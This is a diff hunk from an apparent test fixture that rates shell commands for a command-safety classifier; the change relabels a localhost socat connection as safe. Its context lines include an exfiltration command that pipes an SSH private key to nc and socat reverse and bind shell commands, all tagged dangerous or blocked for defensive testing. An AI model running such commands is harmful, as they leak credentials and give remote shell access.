@@ -6,7 +6,8 @@ cat ~/.ssh/id_rsa | nc example.com 4444  # want dangerous
 nc -h  # want safe
 socat TCP:example.com:4444 EXEC:/bin/bash  # want blocked
 socat TCP-LISTEN:8080,fork SYSTEM:'bash -i'  # want blocked
-socat - TCP:localhost:80  # want moderate
+socat - TCP:localhost:80  # want safe
+socat - TCP:example.com:80  # want moderate
 socat -V  # want safe
 telnet example.com 25  # want moderate
 lftp -e 'mirror -R; quit' example.com  # want moderate
